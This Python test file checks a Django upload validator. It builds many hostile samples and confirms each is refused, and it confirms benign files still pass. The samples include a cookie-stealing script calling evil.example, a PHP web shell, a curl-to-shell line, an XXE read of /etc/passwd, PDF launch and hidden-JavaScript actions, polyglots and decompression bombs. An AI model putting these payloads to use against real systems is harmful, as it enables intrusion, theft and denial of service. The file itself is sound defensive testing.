"""Uploads carrying active content or a second, disguised file are refused.

Each malicious sample is built here from bytes (see ``tests/files.py``); the
table names the class of attack and the error code it must get. Benign files
that look a little like the attacks (links, EXIF, phone trailers, fonts,
compressed pictures) must still be accepted. The virus-scanner hook is tested
against a small clamd of our own speaking the real INSTREAM protocol.
"""

import functools
import io
import logging
import random
import socket
import socketserver
import struct
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import Image, ImageCms

from core.uploads import validate_upload
from core.uploads.clamd import clamd_instream
from tests.files import (
    EICAR,
    jpeg_bytes,
    jpeg_with_segment,
    pdf_document,
    pdf_from_objects,
    pdf_stream,
    pdf_with_object_stream,
    png_bytes,
    png_declaring,
    png_with_chunk,
    upload,
)

MB = 1024 * 1024
LIMIT = 20 * MB

# --- Ingredients -----------------------------------------------------------

HTML_PAGE = b"<!DOCTYPE html><html><body><h1>Hello</h1></body></html>"
HTML_SCRIPT = b"<html><body><script>fetch('//evil.example/?c='+document.cookie)</script>"
PHP_SHELL = b"<?php system($_GET['c']); ?>"


def windows_program(*, dos_stub: bool = True) -> bytes:
    """The headers of a Windows executable: "MZ", e_lfanew, then "PE\\0\\0"."""
    header = bytearray(b"MZ" + b"\x90\x00" * 29)
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21"
    if dos_stub:
        stub += b"This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(header).ljust(0x40, b"\x00") + stub
    return body.ljust(0x80, b"\x00") + b"PE\x00\x00" + b"\x4c\x01\x03\x00" + b"\x00" * 200


LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def zip_archive(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_archive() -> bytes:
    return zip_archive(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\x00" * 64,
        }
    )


@functools.cache
def zeros_deflated(megabytes: int) -> bytes:
    """``megabytes`` MB of zeros, compressed in chunks (about 1 KB per MB)."""
    compressor = zlib.compressobj(9)
    chunk = bytes(MB)
    parts = [compressor.compress(chunk) for _ in range(megabytes)]
    return b"".join(parts) + compressor.flush()


def pdf_with_stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return pdf_document(
        page=b"/Resources << /XObject << /X1 5 0 R >> >>", extra=[pdf_stream(dictionary, data)]
    )


def pdf_with_page_text(text: bytes) -> bytes:
    """A page whose compressed content stream shows ``text``."""
    content = pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"BT 72 720 Td (%s) Tj ET" % text))
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R] >>",
            content,
        ]
    )


def pdf_with_action(action: bytes) -> bytes:
    return pdf_document(catalog=b"/OpenAction 5 0 R", extra=[action])


def pdf_with_annotation(annotation: bytes, extra: list[bytes] = ()) -> bytes:
    return pdf_document(page=b"/Annots [5 0 R]", extra=[annotation, *extra])


def pdf_js_in_object_stream() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        pdf_stream(b"", b"0 0 m 9 9 l S"),
        b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>",
    ]
    return pdf_with_object_stream(objects, packed={1, 2, 3, 5})


def pdf_benign_object_stream() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        pdf_stream(b"", b"0 0 m 9 9 l S"),
    ]
    return pdf_with_object_stream(objects, packed={1, 2, 3})


def encrypted_pdf() -> bytes:
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    writer.encrypt("owner-secret", "")  # opens without a password, still encrypted
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def photo_jpeg(size=(320, 240), **save_options) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(buffer, "JPEG", **save_options)
    return buffer.getvalue()


def phone_exif(**tags) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "samsung"  # Make
    exif[0x0110] = "Galaxy A54 5G"  # Model
    exif[0x0131] = "A546EXXU7CXD1"  # Software
    exif[0x0132] = "2024:05:01 10:15:00"  # DateTime
    exif[0x0112] = 1  # Orientation
    for tag, value in tags.items():
        exif[int(tag, 16)] = value
    return exif


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims huge dimensions."""
    content = bytearray(jpeg_bytes((16, 16)))
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def itxt(text: bytes, *, compressed: bool) -> bytes:
    body = zlib.compress(text) if compressed else text
    return b"Comment\x00" + bytes([int(compressed), 0]) + b"en\x00\x00" + body


# --- The table ---------------------------------------------------------------

# (class, file name, builder, expected code)
MALICIOUS = [
    # Other kinds of file, renamed to look like an accepted one.
    ("html-renamed-pdf", "don.pdf", lambda: HTML_SCRIPT, "unsupported"),
    (
        "svg-renamed-jpg",
        "anh.jpg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "unsupported",
    ),
    (
        "xml-renamed-pdf",
        "don.pdf",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        ),
        "unsupported",
    ),
    (
        "zip-renamed-pdf",
        "don.pdf",
        lambda: zip_archive({"run.js": b"WScript.Echo(1)"}),
        "unsupported",
    ),
    ("docx-renamed-jpg", "anh.jpg", docx_archive, "unsupported"),
    ("elf-renamed-png", "anh.png", lambda: LINUX_PROGRAM, "unsupported"),
    (
        "shell-script-renamed-pdf",
        "don.pdf",
        lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
        "unsupported",
    ),
    ("windows-program-renamed-jpg", "anh.jpg", windows_program, "unsupported"),
    ("eicar-plain", "don.pdf", lambda: EICAR, "unsupported"),
    # Polyglots: a valid file that is also a web page, a script or a program.
    (
        "pdf-html-polyglot",
        "don.pdf",
        lambda: pdf_document(header=b"%PDF-1.7\n%" + HTML_PAGE + b"\n"),
        "disguised",
    ),
    ("pdf-html-script-polyglot", "don.pdf", lambda: pdf_with_stream(HTML_SCRIPT), "active_content"),
    ("jpeg-html-polyglot", "anh.jpg", lambda: jpeg_with_segment(0xFE, HTML_PAGE), "disguised"),
    ("png-html-polyglot", "anh.png", lambda: png_bytes() + HTML_PAGE, "disguised"),
    (
        "svg-in-jpeg-comment",
        "anh.jpg",
        lambda: jpeg_with_segment(0xFE, b"<svg onload=alert(1)>"),
        "disguised",
    ),
    ("windows-program-in-pdf", "don.pdf", lambda: pdf_with_stream(windows_program()), "disguised"),
    (
        "windows-program-in-compressed-pdf-stream",
        "don.pdf",
        lambda: pdf_with_stream(
            zlib.compress(windows_program(dos_stub=False)), b"/Filter /FlateDecode"
        ),
        "disguised",
    ),
    (
        "windows-program-after-jpeg",
        "anh.jpg",
        lambda: jpeg_bytes() + windows_program(),
        "disguised",
    ),
    (
        "linux-program-in-png-chunk",
        "anh.png",
        lambda: png_with_chunk(b"ruSt", LINUX_PROGRAM),
        "disguised",
    ),
    (
        "zip-after-jpeg",
        "anh.jpg",
        lambda: jpeg_bytes() + zip_archive({"a.class": b"\xca\xfe\xba\xbe"}),
        "disguised",
    ),
    (
        "html-in-compressed-pdf-stream",
        "don.pdf",
        lambda: pdf_with_stream(zlib.compress(HTML_PAGE), b"/Filter /FlateDecode"),
        "disguised",
    ),
    (
        "docx-in-pdf-stream",
        "don.pdf",
        lambda: pdf_with_stream(zlib.compress(docx_archive()), b"/Filter /FlateDecode"),
        "disguised",
    ),
    (
        "office-macro-file-in-pdf-stream",
        "don.pdf",
        lambda: pdf_with_stream(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
        "disguised",
    ),
    ("php-in-pdf", "don.pdf", lambda: pdf_with_stream(PHP_SHELL), "active_content"),
    (
        "php-in-jpeg-exif-description",
        "anh.jpg",
        lambda: photo_jpeg(exif=phone_exif(**{"0x010E": PHP_SHELL.decode()})),
        "active_content",
    ),
    (
        "php-in-jpeg-exif-utf16-comment",
        "anh.jpg",
        lambda: photo_jpeg(exif=phone_exif(**{"0x9C9C": PHP_SHELL.decode().encode("utf-16le")})),
        "active_content",
    ),
    (
        "asp-in-jpeg-comment",
        "anh.jpg",
        lambda: jpeg_with_segment(0xFE, b'<% Response.Write("x") %>'),
        "active_content",
    ),
    (
        "script-in-png-text",
        "anh.png",
        lambda: png_with_chunk(b"tEXt", b"Comment\x00" + HTML_SCRIPT),
        "active_content",
    ),
    (
        "script-in-png-compressed-text",
        "anh.png",
        lambda: png_with_chunk(b"iTXt", itxt(HTML_SCRIPT, compressed=True)),
        "active_content",
    ),
    (
        "script-in-png-ztxt",
        "anh.png",
        lambda: png_with_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(PHP_SHELL)),
        "active_content",
    ),
    # Data glued after the end of a picture.
    (
        "data-after-jpeg",
        "anh.jpg",
        lambda: jpeg_bytes() + random.Random(1).randbytes(4000),
        "disguised",
    ),
    (
        "data-after-png",
        "anh.png",
        lambda: png_bytes() + random.Random(2).randbytes(4000),
        "disguised",
    ),
    # PDFs that act on their own.
    (
        "pdf-openaction-javascript",
        "don.pdf",
        lambda: pdf_with_action(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "active_content",
    ),
    (
        "pdf-page-aa-javascript",
        "don.pdf",
        lambda: pdf_document(
            page=b"/AA << /O 5 0 R >>",
            extra=[
                b"<< /S /JavaScript /JS 6 0 R >>",
                pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"app.alert(1)")),
            ],
        ),
        "active_content",
    ),
    (
        "pdf-javascript-name-tree",
        "don.pdf",
        lambda: pdf_document(
            catalog=b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
            extra=[b"<< /S /JavaScript /JS (this.print\\(\\)) >>"],
        ),
        "active_content",
    ),
    (
        "pdf-hex-escaped-javascript",
        "don.pdf",
        lambda: pdf_with_action(b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"),
        "active_content",
    ),
    ("pdf-javascript-in-object-stream", "don.pdf", pdf_js_in_object_stream, "active_content"),
    (
        "pdf-javascript-url",
        "don.pdf",
        lambda: pdf_with_action(b"<< /S /URI /URI <6a6176617363726970743a616c657274283129> >>"),
        "active_content",
    ),
    (
        "pdf-launch",
        "don.pdf",
        lambda: pdf_with_action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "active_content",
    ),
    (
        "pdf-gotor-network-share",
        "don.pdf",
        lambda: pdf_with_action(
            b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
        ),
        "active_content",
    ),
    (
        "pdf-embedded-file",
        "don.pdf",
        lambda: pdf_document(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                pdf_stream(b"/Type /EmbeddedFile", b"data"),
            ],
        ),
        "active_content",
    ),
    (
        "pdf-file-attachment-annotation",
        "don.pdf",
        lambda: pdf_with_annotation(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>",
            [b"<< /Type /Filespec /F (a.txt) >>"],
        ),
        "active_content",
    ),
    (
        "pdf-xfa-form",
        "don.pdf",
        lambda: pdf_document(
            catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[pdf_stream(b"", b"<xdp:xdp/>")]
        ),
        "active_content",
    ),
    (
        "pdf-rich-media",
        "don.pdf",
        lambda: pdf_with_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        "active_content",
    ),
    (
        "pdf-submit-form",
        "don.pdf",
        lambda: pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F (https://evil.example/post) >> >>"
        ),
        "active_content",
    ),
    (
        "pdf-import-data",
        "don.pdf",
        lambda: pdf_with_action(b"<< /S /ImportData /F (data.fdf) >>"),
        "active_content",
    ),
    ("pdf-encrypted", "don.pdf", encrypted_pdf, "encrypted"),
    # Bombs: small files that decode to something enormous.
    (
        "pdf-flate-bomb-200mb",
        "don.pdf",
        lambda: pdf_with_stream(zeros_deflated(200), b"/Filter /FlateDecode"),
        "too_large",
    ),
    (
        "pdf-double-flate-bomb",
        "don.pdf",
        lambda: pdf_with_stream(
            zlib.compress(zeros_deflated(200)), b"/Filter [/FlateDecode /FlateDecode]"
        ),
        "too_large",
    ),
    (
        "pdf-image-flate-bomb",
        "don.pdf",
        lambda: pdf_with_stream(
            zeros_deflated(200),
            b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB "
            b"/BitsPerComponent 8 /Filter /FlateDecode",
        ),
        "too_large",
    ),
    ("png-pixel-bomb", "anh.png", lambda: png_declaring(100_000, 100_000), "too_large"),
    ("jpeg-pixel-bomb", "anh.jpg", lambda: jpeg_declaring(60_000, 60_000), "too_large"),
    # Truncated files.
    ("truncated-pdf", "don.pdf", lambda: pdf_document()[:-120], "corrupt"),
    ("truncated-jpeg", "anh.jpg", lambda: photo_jpeg()[:-500], "corrupt"),
    ("truncated-png", "anh.png", lambda: png_bytes()[:-20], "corrupt"),
    # The anti-virus test file inside accepted kinds.
    ("eicar-in-pdf", "don.pdf", lambda: pdf_with_stream(EICAR), "infected"),
    (
        "eicar-in-compressed-pdf-stream",
        "don.pdf",
        lambda: pdf_with_stream(zlib.compress(EICAR), b"/Filter /FlateDecode"),
        "infected",
    ),
    ("eicar-in-jpeg-comment", "anh.jpg", lambda: jpeg_with_segment(0xFE, EICAR), "infected"),
    ("eicar-after-png", "anh.png", lambda: png_bytes() + EICAR, "infected"),
]

# The audit's eight accepted classes (JavaScript and Launch counted apart).
AUDIT_FINDINGS = {
    "eicar-in-pdf",
    "windows-program-in-pdf",
    "php-in-pdf",
    "pdf-openaction-javascript",
    "pdf-launch",
    "pdf-html-polyglot",
    "jpeg-html-polyglot",
    "png-html-polyglot",
    "pdf-flate-bomb-200mb",
}


def rejection(uploaded_file, **kwargs) -> ValidationError:
    kwargs.setdefault("max_bytes", LIMIT)
    with pytest.raises(ValidationError) as caught:
        validate_upload(uploaded_file, **kwargs)
    return caught.value


def test_table_covers_the_audit_findings_and_enough_classes():
    names = [row[0] for row in MALICIOUS]
    assert len(set(names)) == len(names) >= 36
    assert set(names) >= AUDIT_FINDINGS


@pytest.mark.parametrize(
    ("name", "build", "code"),
    [pytest.param(name, build, code, id=case) for case, name, build, code in MALICIOUS],
)
def test_malicious_upload_is_refused_with_its_code_and_plain_words(name, build, code):
    with translation.override("en"):
        error = rejection(upload(name, build()))
        message = error.messages[0]
    assert error.code == code
    assert len(error.messages) == 1
    assert len(message) > 30
    assert message.isascii()
    assert code not in message and "_" not in message


def test_bomb_is_refused_without_inflating_it_in_memory():
    # Inflating the whole bomb would cost at least 200 MB. Memory, not time, is
    # what shows it was not inflated: a timer fails on a busy machine.
    import tracemalloc

    content = pdf_with_stream(zeros_deflated(200), b"/Filter /FlateDecode")
    tracemalloc.start()
    try:
        assert rejection(upload("don.pdf", content)).code == "too_large"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * MB


def test_too_many_objects_is_refused_as_too_large(monkeypatch):
    monkeypatch.setattr("core.uploads.pdf.MAX_PDF_OBJECTS", 10)
    extra = [b"<< /N %d >>" % n for n in range(20)]
    assert rejection(upload("don.pdf", pdf_document(extra=extra))).code == "too_large"


def test_encrypted_pdf_message_says_it_cannot_be_checked():
    with translation.override("en"):
        error = rejection(upload("don.pdf", encrypted_pdf()))
        assert "password" in error.messages[0]


def test_javascript_message_tells_the_citizen_to_print_to_pdf_again():
    with translation.override("en"):
        error = rejection(upload("don.pdf", pdf_with_action(b"<< /S /JavaScript /JS (1) >>")))
        assert error.messages[0].startswith("This PDF contains a script")
        assert "Print it to PDF again" in error.messages[0]


# --- Benign controls -----------------------------------------------------------


@functools.cache
def weasyprint_pdf(html: str) -> bytes:
    from weasyprint import HTML

    return HTML(string=html).write_pdf()


PAGE = """<html lang="vi"><body>
<h1>Giấy xác nhận cư trú</h1>
<p>Họ và tên: Nguyễn Văn An. Địa chỉ: 12 Phố Huế, Hà Nội.</p>
<table><tr><th>Mã hồ sơ</th><td>H01.22-240501-0001</td></tr></table>
{extra}
</body></html>"""


def png_data_url() -> str:
    import base64

    return "data:image/png;base64," + base64.b64encode(png_bytes((120, 80))).decode()


BENIGN = [
    ("weasyprint-pdf", "giay-to.pdf", lambda: weasyprint_pdf(PAGE.format(extra="")), "pdf"),
    (
        "weasyprint-pdf-with-link",
        "giay-to.pdf",
        lambda: weasyprint_pdf(
            PAGE.format(
                extra='<p><a href="https://dichvucong.gov.vn/p/home">Cổng dịch vụ công</a></p>'
            )
        ),
        "pdf",
    ),
    (
        "weasyprint-pdf-with-picture",
        "giay-to.pdf",
        lambda: weasyprint_pdf(PAGE.format(extra=f'<img src="{png_data_url()}">')),
        "pdf",
    ),
    (
        "pdf-with-https-link-action",
        "don.pdf",
        lambda: pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>"
        ),
        "pdf",
    ),
    ("pdf-with-object-stream", "don.pdf", pdf_benign_object_stream, "pdf"),
    # A manual may show markup as page text; drawn text is never sniffed.
    (
        "pdf-page-text-showing-markup",
        "huong-dan.pdf",
        lambda: pdf_with_page_text(b"<object definition> <script> javascript:"),
        "pdf",
    ),
    ("pdf-pillow-photo", "scan.pdf", lambda: pillow_pdf(photo_jpeg((600, 800))), "pdf"),
    (
        "phone-jpeg-with-exif-xmp-icc",
        "IMG_20240501.jpg",
        lambda: photo_jpeg(
            (640, 480),
            exif=phone_exif(),
            xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
            icc_profile=srgb_profile(),
        ),
        "jpg",
    ),
    (
        "jpeg-with-second-picture-mpf",
        "IMG_2.jpg",
        lambda: photo_jpeg() + photo_jpeg((80, 60)),
        "jpg",
    ),
    (
        "jpeg-with-samsung-trailer",
        "IMG_3.jpg",
        lambda: (
            photo_jpeg() + b"\x00\x00\x01\x0aImage_UTC_Data1714550100000SEFH\x20\x00\x00\x00SEFT"
        ),
        "jpg",
    ),
    (
        "jpeg-motion-photo",
        "PXL_1.MP.jpg",
        lambda: photo_jpeg() + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp41isom" + bytes(500),
        "jpg",
    ),
    ("jpeg-with-zero-padding", "anh.jpg", lambda: photo_jpeg() + bytes(2000), "jpg"),
    ("png", "anh.png", lambda: png_bytes((200, 150)), "png"),
    (
        "png-with-software-text",
        "anh.png",
        lambda: png_with_chunk(b"tEXt", b"Software\x00GIMP 2.10"),
        "png",
    ),
]


def pillow_pdf(jpeg: bytes) -> bytes:
    buffer = io.BytesIO()
    Image.open(io.BytesIO(jpeg)).save(buffer, "PDF", resolution=150)
    return buffer.getvalue()


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@pytest.mark.parametrize(
    ("name", "build", "kind"),
    [pytest.param(name, build, kind, id=case) for case, name, build, kind in BENIGN],
)
def test_benign_upload_is_accepted(name, build, kind):
    assert validate_upload(upload(name, build()), max_bytes=LIMIT) == kind


def ten_megabyte_pdf() -> bytes:
    # Incompressible picture data behind a Flate filter: the costliest kind
    # of PDF to check, as every byte is inflated and measured.
    pixels = random.Random(3).randbytes(3000 * 1100 * 3)
    image = pdf_stream(
        b"/Type /XObject /Subtype /Image /Width 3000 /Height 1100 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
        zlib.compress(pixels, 1),
    )
    text = b"BT /F1 10 Tf 72 720 Td (Giay xac nhan) Tj ET\n" * 20_000
    content = pdf_stream(b"/Filter /FlateDecode", zlib.compress(text))
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            content,
            image,
        ]
    )


def ten_megabyte_png() -> bytes:
    buffer = io.BytesIO()
    Image.frombytes("RGB", (2000, 1700), random.Random(4).randbytes(2000 * 1700 * 3)).save(
        buffer, "PNG", compress_level=1
    )
    return buffer.getvalue()


def ten_megabyte_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.frombytes("RGB", (3200, 2400), random.Random(5).randbytes(3200 * 2400 * 3)).save(
        buffer, "JPEG", quality=95
    )
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("build", "kind"),
    [(ten_megabyte_pdf, "pdf"), (ten_megabyte_png, "png"), (ten_megabyte_jpeg, "jpg")],
    ids=["pdf", "png", "jpg"],
)
def test_ten_megabyte_benign_file_validates_quickly(build, kind):
    content = build()
    assert len(content) > 8 * MB
    started = time.perf_counter()
    assert validate_upload(upload("big", content), max_bytes=LIMIT) == kind
    assert time.perf_counter() - started < 2


# --- The virus scanner (clamd) ---------------------------------------------------

FAKE_SIGNATURES = {
    EICAR: "Eicar-Test-Signature",
    # Something our own checks let through, so only the scanner can catch it.
    b"TEST-ONLY-MALWARE-PATTERN": "Test.Fake.Malware",
}


class FakeClamdHandler(socketserver.StreamRequestHandler):
    """clamd's INSTREAM command, as the real daemon speaks it."""

    def handle(self):
        server = self.server
        command = b""
        while not command.endswith(b"\x00"):
            byte = self.rfile.read(1)
            if not byte:
                return
            command += byte
        if command != b"zINSTREAM\x00":
            self.wfile.write(b"UNKNOWN COMMAND\x00")
            return
        data = bytearray()
        while True:
            (length,) = struct.unpack(">I", self.rfile.read(4))
            if length == 0:
                break
            server.chunk_sizes.append(length)
            data += self.rfile.read(length)
            if len(data) > server.max_length:
                self.wfile.write(b"INSTREAM size limit exceeded. ERROR\x00")
                return
        server.received.append(bytes(data))
        if server.silent:
            self.rfile.read()  # until the client gives up and hangs up
            return
        for pattern, signature in FAKE_SIGNATURES.items():
            if pattern in data:
                self.wfile.write(b"stream: %s FOUND\x00" % signature.encode())
                return
        self.wfile.write(b"stream: OK\x00")


class UnixClamd(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True


class TcpClamd(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True


def serve(server):
    server.chunk_sizes, server.received = [], []
    server.max_length, server.silent = 25 * MB, False
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return thread


@pytest.fixture
def clamd_socket(settings):
    # A short directory of its own: unix socket paths are limited to ~100 bytes.
    with tempfile.TemporaryDirectory() as directory:
        path = str(Path(directory) / "clamd.sock")
        server = UnixClamd(path, FakeClamdHandler)
        serve(server)
        settings.CLAMD_SOCKET = path
        yield server
        server.shutdown()
        server.server_close()


@pytest.fixture
def clamd_tcp(settings):
    server = TcpClamd(("127.0.0.1", 0), FakeClamdHandler)
    serve(server)
    settings.CLAMD_SOCKET = ""
    settings.CLAMD_HOST = "127.0.0.1"
    settings.CLAMD_PORT = str(server.server_address[1])
    yield server
    server.shutdown()
    server.server_close()


def test_clean_upload_passes_the_scanner_which_received_it_whole(clamd_socket):
    content = png_bytes((300, 200))
    assert validate_upload(upload("anh.png", content), max_bytes=LIMIT) == "png"
    assert clamd_socket.received == [content]


def test_client_names_the_signature_clamd_found(clamd_socket):
    assert clamd_instream(io.BytesIO(EICAR)) == "Eicar-Test-Signature"


def test_file_is_streamed_in_length_prefixed_chunks(clamd_socket):
    content = random.Random(6).randbytes(300 * 1024)
    assert clamd_instream(io.BytesIO(content), chunk_size=64 * 1024) is None
    assert clamd_socket.chunk_sizes == [65536] * 4 + [300 * 1024 - 4 * 65536]
    assert clamd_socket.received == [content]


def test_upload_the_scanner_flags_is_refused_as_infected(clamd_socket, caplog):
    content = png_with_chunk(b"tEXt", b"Comment\x00TEST-ONLY-MALWARE-PATTERN")
    with translation.override("en"), caplog.at_level(logging.WARNING):
        error = rejection(upload("anh.png", content))
        assert error.code == "infected"
        assert error.messages[0].startswith("Our virus check found")
    assert "Test.Fake.Malware" in caplog.text


def test_scanner_is_reached_over_tcp_too(clamd_tcp):
    content = png_with_chunk(b"tEXt", b"Comment\x00TEST-ONLY-MALWARE-PATTERN")
    assert rejection(upload("anh.png", content)).code == "infected"
    assert validate_upload(upload("anh.png", png_bytes()), max_bytes=LIMIT) == "png"


def test_unreachable_scanner_refuses_the_upload_and_logs_an_error(settings, caplog, tmp_path):
    settings.CLAMD_SOCKET = str(tmp_path / "missing.sock")
    with translation.override("en"), caplog.at_level(logging.ERROR):
        error = rejection(upload("anh.png", png_bytes()))
        assert error.code == "scanner_unavailable"
        assert "try again" in error.messages[0]
    assert any(record.levelno == logging.ERROR for record in caplog.records)


def test_scanner_refusing_connections_over_tcp_refuses_the_upload(settings):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.CLAMD_SOCKET, settings.CLAMD_HOST, settings.CLAMD_PORT = "", "127.0.0.1", port
    assert rejection(upload("anh.png", png_bytes())).code == "scanner_unavailable"


def test_scanner_error_reply_refuses_the_upload(clamd_socket):
    clamd_socket.max_length = 100
    assert len(png_bytes()) > 100
    assert rejection(upload("anh.png", png_bytes())).code == "scanner_unavailable"


def test_silent_scanner_times_out_and_refuses_the_upload(clamd_socket, settings):
    clamd_socket.silent = True
    settings.CLAMD_TIMEOUT = 0.3
    assert rejection(upload("anh.png", png_bytes())).code == "scanner_unavailable"


def test_scanner_is_not_asked_about_files_our_checks_refuse(clamd_socket):
    assert rejection(upload("anh.png", png_bytes() + HTML_PAGE)).code == "disguised"
    assert clamd_socket.received == []
